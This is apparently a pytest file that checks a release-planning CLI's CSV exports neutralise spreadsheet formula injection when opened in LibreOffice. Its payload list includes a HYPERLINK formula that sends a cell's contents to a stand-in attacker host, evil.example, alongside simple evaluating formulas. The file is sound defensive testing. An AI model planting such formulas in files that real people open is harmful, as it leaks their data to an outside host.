"""Runway's CSV opened by LibreOffice Calc (headless), with formula evaluation turned on.

A plan whose text holds formula-injection payloads (a release title, notes, an RFC title, a
person's name, a matrix role) is exported by the real `runway` CLI as every CSV it writes: the
releases, milestones and RFCs tables, the people, and the responsibility matrix. LibreOffice reads
each with its CSV filter told to evaluate formulas and writes back what its cells show. A control
file with the same payload unneutralised proves that this LibreOffice does evaluate it; in
Runway's files every payload comes back as the text written, none as a computed value.

Environment: RUNWAY_CLI (default: beside RUNWAY_APP, else $CARGO_TARGET_DIR or ./target, debug/runway).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
# LibreOffice's CSV import options: comma, double quote, UTF-8, from line 1, English, quoted
# fields not forced to text, special numbers detected, ..., token 13: evaluate formulas.
IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"
EXPORT = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false"
PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1;"Click")',
    "notes": "=1+1",
    "backout": "@SUM(1;2)",
    "rfc": "=2*21",
    "person": "=3+4",
    "role": "-5+6",
}


def cli_binary() -> Path:
    if os.environ.get("RUNWAY_CLI"):
        return Path(os.environ["RUNWAY_CLI"])
    if os.environ.get("RUNWAY_APP"):
        return Path(os.environ["RUNWAY_APP"]).with_name("runway")
    target = Path(os.environ.get("CARGO_TARGET_DIR") or ROOT / "target")
    return target / "debug" / "runway"


def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    assert found, "LibreOffice is not installed: run `make deps-test` (it installs libreoffice-calc-nogui)"
    return found


def through_libreoffice(src: Path, tmp: Path) -> list[list[str]]:
    out = tmp / "lo-out"
    out.mkdir(exist_ok=True)
    profile = (tmp / "lo-profile").as_uri()
    run = subprocess.run(
        [soffice(), f"-env:UserInstallation={profile}", "--headless", "--norestore", f"--infilter={IMPORT}",
         "--convert-to", EXPORT, "--outdir", str(out), str(src)],
        capture_output=True, text=True, timeout=120,
    )
    result = out / src.name
    assert run.returncode == 0 and result.exists(), f"LibreOffice could not convert {src}: {run.stderr}"
    return list(csv.reader(io.StringIO(result.read_text(encoding="utf-8-sig"))))


def cells(rows: list[list[str]]) -> set[str]:
    return {c for row in rows for c in row}


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("sheets")
    env = {**os.environ, "RUNWAY_SETTINGS_DIR": str(tmp / "settings")}

    def run(*args: str) -> str:
        out = subprocess.run([str(cli_binary()), "--as", "Sheet test <sheet@example.com>", *args],
                             capture_output=True, text=True, env=env, timeout=120)
        assert out.returncode == 0, f"runway {' '.join(args)}: {out.stderr}"
        return out.stdout

    demo = tmp / "demo.runway"
    run("demo", "--db", str(demo), "--releases", "12", "--today", "2026-11-22")
    run("export", "--db", str(demo), "--out", str(tmp / "demo.json"))
    doc = json.loads((tmp / "demo.json").read_text())
    release = doc["releases"][0]
    release["title"] = PAYLOADS["title"]
    release["notes"] = PAYLOADS["notes"]
    release["backout_plan"] = PAYLOADS["backout"]
    doc["rfcs"][0]["title"] = PAYLOADS["rfc"]
    doc["people"][0]["name"] = PAYLOADS["person"]
    (tmp / "hostile.json").write_text(json.dumps(doc))
    db = tmp / "hostile.runway"
    run("import", "--db", str(db), str(tmp / "hostile.json"))
    run("matrix", "--db", str(db), "role", "add", "--", PAYLOADS["role"])

    files = {}
    for table in ("releases", "milestones", "rfcs"):
        files[table] = tmp / f"{table}.csv"
        run("export", "--db", str(db), "--format", "csv", "--table", table, "--bom", "--out", str(files[table]))
    files["people"] = tmp / "people.csv"
    run("people", "--db", str(db), "export", str(files["people"]))
    files["matrix"] = tmp / "matrix.csv"
    run("matrix", "--db", str(db), "show", "--csv", str(files["matrix"]))
    return tmp, files, doc


def test_this_libreoffice_evaluates_a_formula_in_csv(tmp_path):
    control = tmp_path / "control.csv"
    control.write_text("a,b\r\n=1+1,=2*21\r\n", encoding="utf-8")
    assert through_libreoffice(control, tmp_path)[1] == ["2", "42"]


@pytest.mark.parametrize("name,payloads", [
    ("releases", ["title", "notes", "backout"]),
    ("rfcs", ["rfc"]),
    ("people", ["person"]),
    ("matrix", ["role"]),
])
def test_payloads_come_back_as_text_not_results(exported, name, payloads):
    tmp, files, _ = exported
    raw = cells(list(csv.reader(io.StringIO(files[name].read_text(encoding="utf-8-sig")))))
    shown = cells(through_libreoffice(files[name], tmp))
    for p in payloads:
        text = PAYLOADS[p]
        assert f"'{text}" in raw, f"{p} not neutralised in {name}"
        assert f"'{text}" in shown, f"{p}: LibreOffice shows {sorted(c for c in shown if text[1:4] in c)}"
        # What the formula would have given, where that cannot appear by chance.
        result = {"title": "Click", "rfc": "42", "person": "7"}.get(p)
        assert result is None or result not in shown, f"{p} ran in {name}: {result!r} is shown"


def test_the_tables_open_whole(exported):
    tmp, files, doc = exported
    releases = through_libreoffice(files["releases"], tmp)
    assert releases[0][:3] == ["key", "title", "kind"]
    assert len(releases) == 1 + len(doc["releases"])
    keys = {r[0] for r in releases[1:]}
    assert keys == {r["key"] for r in doc["releases"]}
    milestones = through_libreoffice(files["milestones"], tmp)
    assert milestones[0] == ["release", "milestone", "planned_start", "planned_end", "actual_start", "actual_end"]
    assert len(milestones) == 1 + sum(len(r["milestones"]) for r in doc["releases"])
    rfcs = through_libreoffice(files["rfcs"], tmp)
    assert len(rfcs) == 1 + len(doc["rfcs"])
